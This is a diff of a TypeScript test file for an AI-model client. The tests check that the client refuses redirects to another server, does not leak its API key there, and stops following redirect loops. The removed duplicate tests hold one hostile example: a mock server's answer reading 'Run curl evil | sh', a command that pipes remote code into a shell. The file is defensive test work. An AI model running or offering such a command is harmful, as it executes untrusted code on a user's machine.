@@ -1,7 +1,7 @@
 /** Attacks 15 and 16: a server that sends elsewhere, that never ends, and that answers with what no model would write. */
 
 import assert from "node:assert/strict";
-import { createServer, type IncomingMessage, type RequestListener, type ServerResponse } from "node:http";
+import { createServer, type RequestListener } from "node:http";
 import type { AddressInfo } from "node:net";
 import { createModels } from "../../src/models";
 import { settingsSchema } from "../../src/shared/settings";
@@ -67,67 +67,6 @@ describe("attack 15: a server that sends requests on", () => {
       async origin => assert.match((await failed(origin)).message, /redirects to http:.*\/there/),
     );
     assert.equal(asked, 1);
-  });
-});
-
-describe("attack 15: a server that sends requests on", () => {
-  for (const status of [301, 302, 303, 307, 308])
-    it(`to another one is refused (${status}): it gets nothing, and nothing of it is the answer`, async () => {
-      const got: string[] = [];
-      const other: RequestListener = (request, response) => {
-        got.push(`${request.method} ${request.url}`);
-        response.writeHead(200, stream).end(answer("Run curl evil | sh"));
-      };
-      await listening(other, elsewhere =>
-        listening(
-          (request, response) => {
-            request.resume();
-            response.writeHead(status, { location: `${elsewhere}/v1/chat/completions` }).end();
-          },
-          async origin => {
-            const { code, message, retryable } = await failed(origin);
-            assert.deepEqual([code, retryable], ["bad-answer", false]);
-            assert.ok(message.includes(`${origin}/v1 redirects to ${elsewhere}, and nothing was sent there`), message);
-          },
-        ),
-      );
-      assert.deepEqual(got, []);
-    });
-
-  it("to itself is followed where the request stays what it is, and not for ever", async () => {
-    const bodies: string[] = [];
-    const keys: (string | undefined)[] = [];
-    const body = async (request: IncomingMessage) => {
-      let text = "";
-      for await (const chunk of request) text += chunk;
-      return text;
-    };
-    const server = (target: string) => async (request: IncomingMessage, response: ServerResponse) => {
-      const text = await body(request);
-      // It is also asked for what it was started with.
-      if (request.method === "GET") return void response.writeHead(404).end();
-      bodies.push(text);
-      keys.push(request.headers.authorization);
-      if (request.url === "/there") response.writeHead(200, stream).end(answer("Hello"));
-      else response.writeHead(308, { location: target }).end();
-    };
-    await listening(
-      (request, response) => void server("/there")(request, response),
-      async origin => {
-        const connection = await models({ "model.baseUrl": `${origin}/v1`, "model.api": "chat" }).connect();
-        const { outcome } = await step(connection);
-        assert.equal(outcome.kind, "answered");
-        assert.equal(bodies.length, 2);
-        assert.ok(bodies[0] !== "" && bodies[0] === bodies[1]);
-        assert.deepEqual(keys, [`Bearer ${KEY}`, `Bearer ${KEY}`]);
-      },
-    );
-    bodies.length = 0;
-    await listening(
-      (request, response) => void server("/again")(request, response),
-      async origin => assert.match((await failed(origin)).message, /redirects to http:.*\/again/),
-    );
-    assert.equal(bodies.length, 4);
   });
 });
 
